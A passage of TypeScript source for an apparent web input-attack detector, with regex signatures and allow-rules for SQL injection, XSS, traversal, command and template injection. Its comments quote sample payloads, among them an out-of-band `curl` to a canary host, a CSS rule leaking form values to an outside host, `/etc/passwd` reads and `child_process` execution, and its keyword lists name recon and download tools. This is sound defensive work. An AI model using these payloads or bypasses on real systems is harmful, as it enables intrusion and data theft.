 * A value without the players that its text as sent has (`VIDEO_EMBED` there), each decoded as the value was — where that decoding
 * changed nothing but the frame's source URL and made no quote, angle bracket, backtick or `=` there (escapes in a URL that a further
 * decoding would turn into markup keep the value read; review: a style decoded into a page-wide transparent overlay, `style="width:
 * 100vw%3Bposition%3Afixed…"`, keeps it read); at most 8.
 */
function embedsAsSent(xv: string, sent: string): string {
  let n = 0
  for (const m of sent.matchAll(VIDEO_EMBED)) {
    if (++n > 8) break
    const src = EMBED_SOURCE.exec(m[0])
    if (src === null) continue
    const url = decodeValue(src[2]!)
    const decoded = decodeValue(m[0])
    if (quotingChars(url) === quotingChars(src[2]!) && decoded === m[0].slice(0, src.index + src[0].length - src[2]!.length - 1) + url + m[0].slice(src.index + src[0].length - 1)) xv = xv.replaceAll(decoded, ' ')
  }
  return xv
}
/** a frame's source attribute: its quote, its URL */
const EMBED_SOURCE = /[ \t\n\f\r]src[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])([^"']{0,2000})\1/
/** how many quotes, angle brackets, backticks and `=` a text holds */
function quotingChars(text: string): number {
  let n = 0
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i)
    if (c === 34 || c === 39 || c === 96 || c === 60 || c === 62 || c === 61) n++
  }
  return n
}
/**
 * (forty-second round's fourth review) Where an element stands to a browser's tokenizer: at the value's start, or after a whole tag whose quoted
 * values are closed (then text): not inside an attribute's value (`x="<style>" … onfocus=… y="</style>"` is one tag's attributes). A
 * lookbehind, checked right after the element's `<` and name (`<style${AFTER_TAG('style')}`).
 */
const AFTER_TAG = (name: string) => String.raw`(?<=(?:^|<[a-z/!?][^<>"']{0,400}(?:(?:"[^"<>]{0,400}"|'[^'<>]{0,400}')[^<>"']{0,400}){0,20}>)[^<>]{0,400}<${name})`
/**
 * (forty-second round) MathJax configured by data alone (`<script>MathJax.Hub.Config({ tex2jax: { inlineMath: [['$','$']] }, … });</script>`,
 * a notebook's saved styling output, a page's head; `<script type="text/x-mathjax-config">` too): one call of `MathJax.Hub.Config` with an
 * object literal of names, numbers and strings — no parenthesis, `=`, backtick or markup outside the strings (no function, no call, no
 * assignment), no `:` or `/` inside them (no URL for an extension to load, no `javascript:` for `\href`), `//` comments to the line's end
 * (review: JavaScript ends them at CR, U+2028 and U+2029 too, `//x\rb: alert(1)` ran) — runs nothing but the library's own setting. A lower-cased value's (its closing tag, when it ends the value, already taken off); anything else in the
 * script keeps it read.
 */
const MATHJAX_STRING = String.raw`(?:"(?:[^"\\\n<:/]|\\[^\n<:/]){0,200}"|'(?:[^'\\\n<:/]|\\[^\n<:/]){0,200}')`
// (fourth review: where a tag has ended, AFTER_TAG)
const MATHJAX_OPEN = String.raw`<script${AFTER_TAG('script')}(?:[ \t\n\f\r]{1,4}type[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])text\/x-mathjax-config\1)?[ \t\n\f\r]{0,4}>[ \t\n\f\r]{0,40}mathjax\.hub\.config\([ \t\n\f\r]{0,40}\{(?:${MATHJAX_STRING}|\/\/[^\n\r\u2028\u2029<]{0,200}|[^'"\x60()=<>/\\])*`
const MATHJAX_CONFIG = new RegExp(String.raw`${MATHJAX_OPEN}\}[ \t\n\f\r]{0,40}\)[ \t\n\f\r]{0,40};?[ \t\n\f\r]{0,40}(?:<\/script>|$)`, 'g')
/**
 * (forty-third round) Such a setting the body's cut ended inside (a notebook of 20 KiB sent as a form's field, cut at 16 KiB in its styling
 * output's `MathJax.Hub.Config({⏎ TeX: {⏎`): what was seen of it sets data alone, and what came after the cut is unseen whatever it holds
 * (a script put there is as unseen as this one's end). Only in the value the cut ended (`#cutValue`), to its end.
 */
const MATHJAX_CUT = new RegExp(String.raw`${MATHJAX_OPEN}(?:["'](?:[^"'\\\n<:/]|\\[^\n<:/]){0,200}|\/\/[^\n\r\u2028\u2029<]{0,200})?$`)
/**
 * (forty-second round) Google Fonts imported by a style sheet (`@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');`,
 * a notebook's styling output): taken out of a `<style>` element that loads nothing else — (third review) no other `url(` or import in it,
 * where a rule could send the page's values out (`input[value^=s3]{background:url(//host/leak?p=s3)}`, which an import made a rule report
 * before). A lower-cased value's; at most 8 elements a value.
 */
const STYLE_ELEMENT = /<style\b[^<>]{0,100}>[^<]{0,20000}/g
const FONT_IMPORT = /@import[ \t\n]{0,4}(?:url[ \t]{0,4}\([ \t]{0,4})?(['"]?)(?:https?:)?\/\/fonts\.googleapis\.com\/css2?\?family=[\w+:;,@%&=.|-]{1,400}\1[ \t]{0,4}\)?[ \t]{0,4};/g
const STYLE_LOADS = /url[ \t]{0,4}\(|@import|image-set|src[ \t]{0,4}:/
/** (sixty-first round) a preprocessor's style block (Sass, SCSS, Less, Stylus), its opening tag and its text */
const PREPROCESSOR_STYLE = /<style\b[^<>]{0,100}?\blang[ \t]{0,4}=[ \t]{0,4}["']?(?:scss|sass|less|stylus)\b[^<>]{0,100}>[^<]{0,20000}/g
/** its import of a partial by a same-site path with no extension (`@import '~pkg/lib/definitions';`): the path, then its quote and end */
const PARTIAL_IMPORT = /(@import[ \t]{0,4}(['"])(?:\/(?!\/)|[@~.\w-])[\w@~.\/-]{0,200}?)(?<!\.(?:s?css|less|sass|styl))(\2[ \t]{0,4}[;\n])/g
const preprocessorImports = (block: string): string => block.replace(PARTIAL_IMPORT, '$1.scss$3')
function fontImports(style: string): string {
  const rest = style.replace(FONT_IMPORT, '')
  return STYLE_LOADS.test(rest) ? style : rest
}
/** (thirty-third round) A data block no browser runs (`<script type="application/ld+json">…</script>`): no markup inside, no source, no handler */
// (review: its opening tag exactly — its type and, besides, an id, a class or a nonce —: `data-type="application/json"`, a second type or a
// type inside another attribute's value leave a script the browser runs; thirty-sixth round's review: between HTML's own blanks only —
// `<script id="a"\u2028type="application/json">` has an attribute named `\u2028type` and no type, and runs)
// (forty-second round's fourth review: where a tag has ended, AFTER_TAG)
const DATA_SCRIPT = new RegExp(String.raw`<script${AFTER_TAG('script')}(?:[ \t\n\f\r]{1,4}(?:id|class|nonce)[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}"[\w .:-]{0,100}")*[ \t\n\f\r]{1,4}type[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])application\/(?:ld\+)?json\1(?:[ \t\n\f\r]{1,4}(?:id|class|nonce)[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}"[\w .:-]{0,100}")*[ \t\n\f\r]{0,4}>[^<]{0,20000}<\/script>`, 'g')
/** what an icon draws: an opening alone (`<svg xmlns="http://www.w3.org/2000/svg">`) is a vector's start, not an icon */
/**
 * (thirty-seventh round) A sprite's symbol drawn by its id in the same document (Just the Docs' `<svg viewBox="0 0 24 24" class="icon"><use
 * xlink:href="#svg-search"></use></svg>`): `<use>` with a fragment of the page for its only attribute draws what the page defines, and
 * fetches nothing; any other address, attribute or child and it is read as before
 */
// (forty-second round: with a glyph's placement around it, as Matplotlib writes its text, `<use x="97.41" transform="translate(63.477 -16.406)
// scale(.7)" xlink:href="#dejavusans-65"/>`: numbers, names and parentheses in quotes, no `:`, `=`, markup or escape)
// (forty-third round: and its ticks' strokes, `<use x="90.02" y="279" stroke="#000000" stroke-width=".8" xlink:href="#maf66b4c68a"/>`,
// presentation attributes of SVG's own)
const USE_PLACEMENT = String.raw`(?:[ \t\n\f\r]{1,4}(?:x|y|width|height|transform|fill|stroke|opacity|fill-(?:opacity|rule)|stroke-(?:width|linecap|linejoin|dasharray|dashoffset|opacity|miterlimit))[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(?:"[\w., ()#%-]{0,200}"|'[\w., ()#%-]{0,200}')){0,6}`
const LOCAL_USE = new RegExp(String.raw`<use${USE_PLACEMENT}[ \t\n\f\r]{1,4}(?:xlink:)?href[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])#[a-z][\w-]{0,60}\1${USE_PLACEMENT}[ \t\n\f\r]{0,4}(?:\/>|>[ \t\n\f\r]{0,4}<\/use>)`, 'g')
/**
 * (forty-second round) A drawing's own style sheet of plain declarations (Matplotlib's `<style type="text/css">*{stroke-linecap:butt;
 * stroke-linejoin:round;}</style>` in every saved figure): nothing it can load or run — no `url(`, import or other at-rule, `expression`,
 * `behavior`, binding, `image-set`, `src`, escape, entity or markup in it; any other style keeps the element read
 */
// (fourth review: where a tag has ended, AFTER_TAG, and no quote or `=` in it — inside an attribute's value it hid a handler)
const INERT_SVG_STYLE = new RegExp(String.raw`<style${AFTER_TAG('style')}(?:[ \t\n\f\r]{1,4}type[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])text\/css\1)?[ \t\n\f\r]{0,4}>(?![^<]{0,2000}?(?:url|expression|behavio|binding|javascript|import|image-set|src))[^<>&\\@"'=]{0,2000}<\/style>`, 'g')
/**
 * (fifty-eighth round, the spent hundred-and-thirty-fourth part's) an icon's opening tag and nothing after it, a value of its own
 * (`"header": "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"125\" …>"`, an avatar builder's parts kept field by field): it draws
 * and runs nothing; its attributes are judged as an icon's are. Only as the whole value: after other markup (`<div id="88"><svg
 * xmlns=…>`, a vector list's opening) it is read as before, and with a quote left open (review: `title=">` swallows the page's markup
 * after it; second review: the attributes read as a tag's are, each value quoted whole, so `<svg width="1" x='"' title=">` is read),
 * and no style (`style="position:fixed;inset:0…"` covers the page)
 */
const SVG_OPENING_ALONE = /^<svg(?:\s{1,8}(?!style\b)[\w:-]{1,60}(?:\s{0,4}=\s{0,4}(?:"[^"<>]{0,400}"|'[^'<>]{0,400}'|[^\s"'=<>`]{1,400}))?){0,40}\s{0,8}\/?>\s*$/
const SVG_DRAWING = /<(?:path|g|circle|rect|line|polyline|polygon|ellipse|defs|symbol|mask|clippath|lineargradient|radialgradient|stop|text|tspan|title)\b/
const SVG_ACTIVE = /<(?:[a-z][\w.-]{0,20}:)?(?:use|foreignobject|animate\w{0,20}|set|feimage|image|a|script|iframe|handler|listener|discard|style|object|embed)\b|<!|\b(?:xlink:)?href\s*=|\bon[a-z]{3,40}\s*=|javascript\s*:|data\s*:/
/** String literals of one line (a component's `ref('<span style=…>')`). */
const STRING_LITERALS = /'[^'\n]{0,300}'|"[^"\n]{0,300}"/g
/** a script's string literals of one line where a value starts (after `=`, `(`, `,`, `:`, `[`, `+`, `?`, `!`, `&`, `|`, a keyword's blank or a line's start) */
/**
 * (the fifty-ninth round's reviews) the window's `open(` and the constructors that fetch (`new Audio(`, `new EventSource(`, `new
 * SharedWorker(`, `new FontFace(…, 'url(…)')`) handed another origin's address in a literal, read with the block's strings: a
 * component's own `open()`, `new Audio(props.src)`, `new EventSource('/api/stream')` are not
 */
const ORIGIN_SINK = /(?<![\w$.])open\s*\(\s*['"`](?:[a-z]{2,10}:|\/\/)|\bnew\s{1,4}(?:audio|eventsource|sharedworker|fontface)\s*\([^)\n]{0,200}?['"`(](?:[a-z]{2,10}:)?\/\//
const SCRIPT_STRINGS = /((?:^|[\n=(,:[+?!&|])[ \t]{0,40}|\b(?:return|case|in|of|from|import|export|default)[ \t]{1,4})(?:'[^'\n]{0,300}'|"[^"\n]{0,300}")/g
/** A command line with none of the characters a separator needs: a recon or batch one, single-character classes folded (`cat /[e]tc/passwd`). */
/** A command line spelt with `+` for its blanks and folded spellings, no separator (`cat$u+/etc$u/passwd$u`, `/?in/cat+/et?/passw?`). */
function plusCommand(v: string): boolean {
  const spaced = v.replace(PLUS_ALL, ' ')
  return bareCommand(spaced) || bareCommand(fold(spaced))
}
const plainCommand = (v: string) => bareCommand(v) || (v.includes('[') && bareCommand(fold(v))) || protocolCommand(v) || oobFetch(v)
/**
 * (nineteenth round) A download program aimed at an out-of-band or canary service (`curl -sk http://x.oastify.com`):
 * a blind injection's proof that it ran, which no one types into a form.
 */
function oobFetch(v: string): boolean {
  return v.length <= 300 && DOWNLOADER.test(v) && someCapture(URL_HOSTS, v, callbackHost)
}
const DOWNLOADER = /^\s{0,4}(?:curl|wget)\s/
const URL_HOSTS = /(?:^|[\s'"=@/])([a-z0-9][a-z0-9.-]{0,200}\.[a-z]{2,24})(?=[\s'"/:?#]|$)/g
/**
 * A program's source (several lines opening on its keywords: `def`, `end`, `class`, `require`, `import`,
 * `function`, `return`…): its comment lines are text about it, and a template in its string literals is
 * the program's own (a test rendering `erb '<%= 1 + 1 %>'`). (Twenty-second round: Kotlin's `val`, `fun`, `override` and
 * `suspend`, and an indented line that is one call, as Python writes statements: `    self.assertEqual(…)`.)
 */
// (twenty-third round: a doc comment's opening and closing lines, `/**` and ` */`; an indented assignment from a call, `    result = subprocess.run(`,
// and an indented call opening its argument lines, `    self.fail(`; thirty-third round: see RETURN_TYPE_LINE; review: a keyword followed by its
// colon is a YAML document's key, `import: 1`, no program's line)
// (forty-second round: a call statement's callee may be reached through subscripts, `this[kBuffers].push(chunk);`)
// (forty-third round: Python's `from pydantic import BaseModel, Field`, a notebook cell's first line)
const PROGRAM_LINE = /(?:^|\n)[ \t]{0,40}(?:from[ \t][\w.]{1,80}[ \t]import[ \t]{1,4}[\w(*]|\/\*\*[ \t]*(?=\n)|\*\/[ \t]*(?=\n|$)|(?<=[ \t]{4})[\w$.]{1,60}[ \t]{1,4}=[ \t]{1,4}[\w$.]{1,60}\([ \t]*(?=\n)|(?<=[ \t]{4})[\w$.]{1,60}\([ \t]*(?=\n)|(?:def|end|class|module|require(?:_relative)?|import|function|return|const|let|var|val|fun|override|suspend|elsif|describe|it|public|private|package|func|fn|pub|impl|struct|async|await|assert|yield|throw|static|protected|using|namespace|export|declare|interface|enum)\b(?![ \t]{0,4}:(?!:))|(?<=[ \t]{4})[\w$.]{1,60}\([^\n]{0,200}\)[ \t]*(?=\n|$)|(?:if|for|while|elif|else|with|try|except)\b[^\n]{0,200}[:{][ \t]*(?=\n|$)|\/\/[ \t]|\}[)\];,]{1,3}[ \t]*(?=\n|$)|[\w$.][\w$.[\]]{0,59}\([^\n]{0,200}\);[ \t]*(?=\n|$)|(?:my|our|local)[ \t]{1,4}[$@%(]|sub[ \t]{1,4}\w{1,60}[ \t]{0,4}(?:\([$@%;\\ ]{0,12}\)[ \t]{0,4})?(?:\{|$)|use[ \t]{1,4}(?:strict|warnings|utf8|vars|constant|base|parent|lib|overload|integer|[a-z]\w{0,30}::[\w:]{1,60})\b[^\n]{0,100};)/g
const COMMENT_LINE = /(?:^|\n)[ \t]{0,40}(?:#(?![!{])|\/\/)[^\n]{0,400}/g
/** (fortieth round) a block comment opening the value and closing its line, a C family's file header (not a doc comment, `/**`) */
const BLOCK_COMMENT = /^[ \t]{0,40}\/\*(?!\*)(?:[^*]|\*(?!\/)){0,4000}\*\/[ \t]*(?=\n|$)/
/** (thirty-third round) a Rust signature's closing line with its return type, `) -> Option<Self> {`: a program's line where a `fn` is declared */
const RETURN_TYPE_LINE = /(?:^|\n)[ \t]{0,40}\)[ \t]{0,4}->[^\n]{1,200}\{[ \t]*(?=\n|$)/
const FN_DECLARED = /(?:^|\n)[ \t]{0,40}(?:pub(?:\([\w:]{1,20}\))?[ \t]{1,4})?(?:async[ \t]{1,4})?fn[ \t]{1,4}[a-z_]\w{0,60}[ \t]{0,4}[<(]/
/**
 * (thirty-eighth round) A Bicep file's declaration of a resource by its type and API version, or of a module by its file (`resource
 * avmTelemetry 'Microsoft.Resources/deployments@2025-04-01' = if (enableTelemetry) {`, `module relays 'relay/main.bicep' = [`): its
 * `'…${replace(…)}…'` strings are its own interpolations, not PHP's complex syntax (BICEP_RCE). (Review: nothing more — read as a
 * program's source, a declaration line silenced `'${require('child_process').execSync('id')}'` after it.)
 */
const BICEP_DECLARATION = /(?:^|\n)[ \t]{0,8}(?:resource[ \t]{1,4}[a-z_]\w{0,60}[ \t]{1,4}'[\w./-]{1,200}@\d{4}-\d{2}-\d{2}(?:-preview)?'|module[ \t]{1,4}[a-z_]\w{0,60}[ \t]{1,4}'[\w./:@-]{1,200}')(?:[ \t]{1,4}existing)?[ \t]{1,4}=[ \t]{1,4}(?:if[ \t]{0,4}\(|\[|\{)/
function program(v: string): boolean {
  PROGRAM_LINE.lastIndex = 0
  let n = v.includes('->') && RETURN_TYPE_LINE.test(v) && FN_DECLARED.test(v) ? 1 : 0
  while (PROGRAM_LINE.exec(v) !== null) if (++n === 3) return true
  return false
}
/** A value opening on `{` or `[` and closing on `}` or `]`, blanks aside. */
function jsonShaped(v: string): boolean {
  const t = v.trim()
  const a = t.charCodeAt(0)
  const z = t.charCodeAt(t.length - 1)
  return (a === 123 || a === 91) && (z === 125 || z === 93)
}
/** A program's own lines that no Markdown page has outside its code blocks: a shebang, imports, definitions, a shell block's closing word. */
// (twenty-eighth round: and Perl's, `package Foo::Bar;`, `use strict;`, `sub name {`)
const CODE_SIGNS = /^#!|(?:^|\n)(?:import [\w.]+|from [\w.]+ import |def \w+\(|class \w+[(:]|(?:fi|done|esac)[ \t]*(?:\n|$)|package [\w:]{1,100};|use (?:strict|warnings)\b|sub \w{1,60} ?\{)/
/** Prose around code spans: four words in a row. */
const PROSE = /(?:\b[a-z]{2,20}[,;:]?\s+){4}/
/** (twenty-third round) A statement after `;`, the value cut by a comment at its end (`1; DROP members--`): the SQL judge decides */
const STACKED_CUT = /;[ \t]{0,4}[a-z]\w{1,20}\b[^\n;]{0,200};?[ \t]{0,4}--[ \t]{0,4}$/
/**
 * (thirtieth round) A Content Security Policy as a value (a site's settings): directives parted by `;`,
 * each a directive's name and its sources (`default-src 'self'; script-src 'self' https://cdn.example.com; report-uri /csp`,
 * no command's sign in a directive's sources): its `;` ends a directive, not a command. Every part must name a directive.
 */
const POLICY_DIRECTIVE = String.raw`(?:(?:default|script|style|img|connect|font|object|media|frame|child|worker|manifest|prefetch|fenced-frame|script-src|style-src)-(?:src|elem|attr)|form-action|frame-ancestors|base-uri|report-uri|report-to|sandbox|upgrade-insecure-requests|block-all-mixed-content|require-trusted-types-for|trusted-types|plugin-types|navigate-to|referrer|require-sri-for)(?:[ \t]{1,8}[^;\s\x60$|&<>][^;\n\x60$|&<>]{0,400})?`
const SECURITY_POLICY = new RegExp(String.raw`^[ \t]{0,8}` + POLICY_DIRECTIVE + String.raw`(?:;[ \t]{0,8}` + POLICY_DIRECTIVE + String.raw`){0,40};?[ \t]{0,8}$`)
/**
 * A regular expression given as a value (a configuration's pattern): its `|` and `(` are not a shell's;
 * a file-name pattern among them (jest's `moduleNameMapper` key `\.(css|less)$`).
 * (thirty-first round) Or anchored at both ends with a range or an alternation inside (`^.* ((Unit|Apt) [0-9A-Za-z])$`, an address
 * catalogue's parsing pattern).
 */
const REGEX_SOURCE = /\(\?[:!=<]|\[\^[^\]]{1,40}\]|\.\*\??[)|$]|\\\.\([\w|]{1,60}\)\??\$|\\b\([\w-]{1,40}\||^\^(?![^\n]{0,300}?(?:[;`]| #|\$\())(?=[^\n]{0,300}?(?:\[[^\]\n]{0,20}[a-z0-9]-[a-z0-9][^\]\n]{0,20}\]|\([^()\n]{0,80}\|[^()\n]{0,80}\)))[^\n]{1,300}\$$/
/** (twenty-eighth round) a command substitution's opening on a word, unescaped: no pattern has it (`$(ls -la /etc/cron.*)` globs, it matches nothing) */
const SUBSTITUTION_OPEN = /(?<!\\)\$\([a-z][\w./-]{0,30}(?:[ \t)]|$)/

/**
 * What a value must contain for a class's signatures to have a chance: most values skip most classes.
 * Each gate is the union of its class's anchors, so that an apostrophe in a name, a "&" in prose or a
 * price in dollars does not run a whole class's signatures.
 */
const GATE = {
  // after a quote or ")": a boolean, a separator, a comment, an operator or a clause; else SQL's words
  // after a quote or ")": a boolean, a separator, a comment, an operator or a clause
  sqli: /['"`\u2018\u2019\u2032)]\s*(?:\)\s*){0,9}(?:or\b|and\b|xor\b|div\b|\|\||&&|;|--|#|\/\*|[=<>+,*^|&!~/%-]|union|select|order|group|having|where|limit|into|exec|waitfor|grant|like|rlike|regexp|in\b|is\b|procedure|sounds|not\b|collate|notnull|isnull|ilike|similar|glob|mod\b|escape)/,
  // SQL's words and shapes where no quote is needed
  sqliWords: /\b(?:or|and|xor)\s*(?:not\s+)?(?:[\d'"(@`\u2018\u2019]|-\s{0,4}\d|(?:true|false|null)\b)|\b(?:or|and|xor)\s+[\w.]{1,30}\s*(?:[=<>!]|like\b|is\b|in\b|between\b|regexp\b)|\b(?:union|select|sleep|pg_sleep|benchmark|randomblob|dbms_\w+|utl_\w+|waitfor|extractvalue|updatexml|load_file|xp_\w+|sp_\w+|information_schema|sys\w+|pg_\w+|mysql|outfile|dumpfile|having|declare|shutdown|truncate|char|concat|exec|execute|master)\b|\b(?:order|group)\s+by\b|\b(?:insert\s+into|delete\s+from|drop\s+(?:table|database)|update\s+\w+\s+set|create\s+(?:user|table|database|login)|where\s+\S{1,30}\s*[=<>]|limit\s+\d|print\s+@|begin\s+(?:declare|exec)|copy\s+\w+(?:\s*\([^()\n]{0,200}\))?\s+(?:from|to)|grant\s+\w+|set\s+global|load\s+data|openrowset|httpuritype|is_srvrolemember|is_member|dbms_java|dbms_xmlgen|java\s+source|language\s+c\s+library|fn_xe_file_target_read_file|fn_get_audit_file|fn_trace_gettable|(?:dba|all)_users|(?:user|role|dba)_sys_privs|session_roles)\b|@@/,
  // a tag; a quote then a handler or an operator; a script URL; DOM sinks; Angular templates; script sinks
  xss: /<|['"`]\s*(?:(?:\/\s*)?on[a-z]|[;)+|&,/-])|\bon[a-z]{3,30}\s*=|script\s*:|data\s*:|expression\\|document\s*\.|window\s*\.|location\s*\.|fromcharcode|innerhtml|activexobject|\{\{|expression\s*\(|\bstyle\s*=|\+adw-|\b(?:alert|prompt|confirm)\s*(?:[(`]|\.\s*(?:call|apply|bind)\b|\?\.)|\(\s*(?:alert|prompt|confirm|eval)\s*[,)]|\$\{\s*(?:alert|prompt|confirm|eval)\s*\}|\b(?:top|window|self|this|parent|frames|globalthis)\s*\[|[,[]\s*(?:alert|prompt|confirm|eval)\s*[,\]]|=\s*(?:eval|alert|prompt|confirm)\b|\beval\s*\(|__proto__|createelement|base64/,
  // (review: and a system location without its slash that names no server file by its extension, `var/log/syslog`,
  // `home/user/.bash_history`, `root/.ssh/id_rsa`, `var/www/html/.env`, which the fourteenth round's RELATIVE_SYSTEM_PATH
  // judges but this gate kept from it; not `usr/share/doc/…`, `var/www/uploads/a.png`, `var/tmp/…`: a docs site's and
  // a file manager's own paths)
  traversal: /\.\.|0x2e|\.ht(?:access|passwd)|\.(?:php|ini|conf|config|log|inc)\b|etc[/\\]|proc[/\\]|windows|winnt|inetpub|xampp|\.ini\b|file:|php:|zip:|phar:|expect:|glob:|data:|\0|^(?:\/|[a-z]:[/\\]|\\|~\/\.)|^\s{0,4}(?:var\/(?:log|lib|mail|spool|run)\/|var\/www\/[^\s]{0,200}\/\.|home\/[^/\s]{1,40}\/\.|root\/\.|sys\/(?:class|kernel|devices|fs|module|block|bus|firmware|power)\/|boot\/(?:grub|efi|vmlinuz|initrd|system\.map|config-))/,
  // shell separators, interpreters and sinks
  // (twenty-seventh round: the separators `;` `&` `|` a backtick and a line break are looked for first, by `rceGate`: a native
  // search each is cheaper than this alternation tried at every position of a long value)
  rce: /\\n|\$\(|\b(?:include|require|fopen|file_get_contents|readfile|virtual)(?:_once)?\s{0,4}\(?\s{0,4}['"](?:https?|ftps?|php|data|expect|zlib|phar):|process\.spawn|process\.start|os\.execute|\$\{?(?:bash|shell|0)\}?[ \t]{1,4}-c|\(\s*(?:system|exec|passthru|shell_exec|popen|proc_open)\s*\)|exec\.command|syscall\.exec|\bqx\s*[{(\[]|%x\s{0,4}[{(\[]|<cfexecute|register_shutdown_function|call_user_func|array_map|array_filter|usort|register_tick_function|\$\{?ifs|phpinfo|\b(?:eval|assert)\s*\(|<!--\s*#\s*exec|\/dev\/|\bbash\b|runtime|java\.lang|processbuilder|scriptenginemanager|__import__|\bos\s*\.|subprocess|child_process|mainmodule|powershell|\bcmd\b|certutil|\b(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval|readfile|file_get_contents|file_put_contents|highlight_file|show_source)\s*\(|\(\s*\)\s*\{|\{\$\{|\$\{@?[a-z_]{2,20}\(|\$\{[a-z_][a-z0-9_]{1,30}:\d|[a-z0-9]\$\{[a-z_]\w{0,7}\}[a-z0-9]|\([^()\s]{0,16}(?:e(?!\.g\.)[^\w\s()<>;&|]|\+[a-z_])|(?:^|[\s=:,{])[<>]\(|(?:^|\s)=\(|\$\{\([^()\s]{0,10}e/,
  // an operator name after "$", or $where JavaScript
  nosqli: /\$(?:ne|eq|gt|lt|in|nin|regex|where|exists|or|and|not|nor|expr|function|accumulator|elemmatch|all|size|type|mod|text|comment|jsonschema|match|lookup|group|project|unwind|facet|unionwith|set|unset|push|pull|addtoset|rename|geowithin|geointersects|near|like|ilike|notlike|bits)|\bthis\s*\.|\bdb\s*\.|\breturn\b|sleep\s*\(|\|\||==|&&|\bwhile\s*\(/,
  // a closing parenthesis (or "*") then an opening one, a filter operator between parentheses, "))" then NUL
  ldapi: /^\s*\(\s*[&|]\s*\)\s*$|\*\)\)$|^\s{0,10}\*\s{0,4}\(?\s{0,4}[|&!]\s{0,4}\(|\)\s*[|&!]\s*\(|\?(?:base|one|sub|subtree|children)\?|[)*]\s*(?:\)\s*){0,2}\(|\(\s*[|&]\s*\(|\)\s*\)\s*\0|\*\s*\)\s*\0|^\s*\(\s*[a-z][\w-]{1,40}\s*[~<>]?=|^\s{0,10}\(?\s{0,10}[&|!]\s*\(/,
  // a template's delimiters
  ssti: /\{\{|\$\{|#\{|\*\{|@\(|@\{|\{%|<%|<#|<jsp:|<c:import\b|\[#|\{=|\[=|#set\s*\(|#foreach|\?new\s*\(|\{(?:php|literal|\$smarty|system)/,
}

/**
 * The characters, or (in a value with a space or a slash) the words, without which no signature
 * above can match: a value free of them is skipped. Two tests, because a word alternation tried at
 * every position of a long plain value costs more than all the rest of the detector.
 */
const SPECIAL = /['"`<>;|&$(){}\\*%#=:\n\r\0\u2018\u2019\u2032]|\.\.|\/\/|0x2e|@@/
const WORDS = /\b(?:or|and|union|select|sleep|benchmark|having|order|group|where|exec|declare|waitfor|etc|proc|var|usr|opt|root|home|boot|tmp|windows|winnt|xampp|apache|inetpub|ipconfig|ifconfig|netsh|netstat|whoami|systeminfo|sysinfo|uname|nslookup|wget|curl|powershell|pwsh|tasklist|certutil|bitsadmin|wmic|printenv)\b/i
/** The same for a whole JSON text, leaving out JSON's own syntax (a quote inside a value is `\"`). */
const JSON_SPECIAL = /['`<>;|&$()\\*%#=\n\0\u2019]|\.\.|\/\/|0x2e|\{\{/
// (twenty-fifth round: and after a plus, a tab or a no-break space, the blanks of `1+union+select+1`, `union\tselect`, `select\u00a0user`)
const hasSignals = (text: string, special: RegExp) => special.test(text) || ((text.includes(' ') || text.includes('/') || text.includes('+') || text.includes('\t') || text.includes('\u00a0')) && WORDS.test(text))
const suspicious = (v: string) => hasSignals(v, SPECIAL)
const suspiciousJson = (text: string) => hasSignals(text, JSON_SPECIAL)
/**
 * The same test on a body's bytes, before any decoding, in one SIMD pass (src/insight/byte-scan.ts;
 * an ASCII byte never occurs inside a multi-byte UTF-8 character). The words need the text, and are
 * looked for only when a space or a slash says they could be there.
 */
const SPECIAL_BYTES = 0
const JSON_SPECIAL_BYTES = 1
const byteSet = (chars: string) => [...chars].map((c) => c.charCodeAt(0))
const BYTES = new ByteScanner([byteSet(`'"\`<>;|&$(){}\\*%#=:\n\r\0`), byteSet(`'\`<>;|&$()\\*%#=\n\0`)])
const NBSP_UTF8 = Buffer.from([0xc2, 0xa0])
function suspiciousBytes(body: Buffer, set: number): boolean {
  const found = BYTES.scan(body, set)
  if ((found & (HAS_BYTE | HAS_PAIR)) !== 0) return true
  // a template's braces (`{{config}}` has no other byte of the set): one native byte search
  if (body.includes('{{')) return true
  // (review) a tab or a no-break space too, the blanks `hasSignals` counts (`union\tselect`, `select\u00a0user`): one native search
  // each, and only in a body without a space, slash or plus (the scanner's sets stay exact ASCII)
  return ((found & HAS_BLANK) !== 0 || body.includes(0x09) || body.includes(NBSP_UTF8)) && WORDS.test(body.toString('latin1'))
}

/** A site's name glued to a label's other letters (`dropbox.com` holds `x.com`; `example.community`): another name (after a dash, `evil-example.com`, a look-alike). */
const SITE_GLUED = /[a-z0-9]/
/** A country's code as a URL's last label right after our site's name, then the authority's end (`.br` in `example.com.br/`). */
const COUNTRY_SITE = /^\.[a-z]{2}\.?(?::\d{1,5})?(?:[/?#]|$)/
/**
 * Each list of signatures `anyOf` is asked about, as one RegExp (src/match/union.ts): a value scanned once
 * rather than once per signature, with the same answer.
 */
const UNIONS = new Map<readonly RegExp[], RegExp>()
/** the markup signatures that are tags alone (`<script`, a tag's event handler): what a path's segments are judged on */
const XSS_TAGS = XSS.slice(0, 2)
for (const list of [SQLI, XSS, XSS_MARKUP, XSS_TAGS, TRAVERSAL, CLIMBING, SYSTEM_CLIMBING, SYSTEM_FILES, RCE, PROGRAM_RCE, CODE_RCE, PERL_CODE_RCE, BICEP_RCE, SSTI, SSTI_SHORT, NOSQLI, NOSQL_OPERATOR_SHAPES, CODE_NOSQLI, LDAPI, XXE, PRIVATE_HOST]) UNIONS.set(list, unionOf(list))

/** Every regex the detector uses, decoding's included, for the ReDoS test. */
export const ATTACK_PATTERNS: readonly RegExp[] = [
  ...UNIONS.values(),
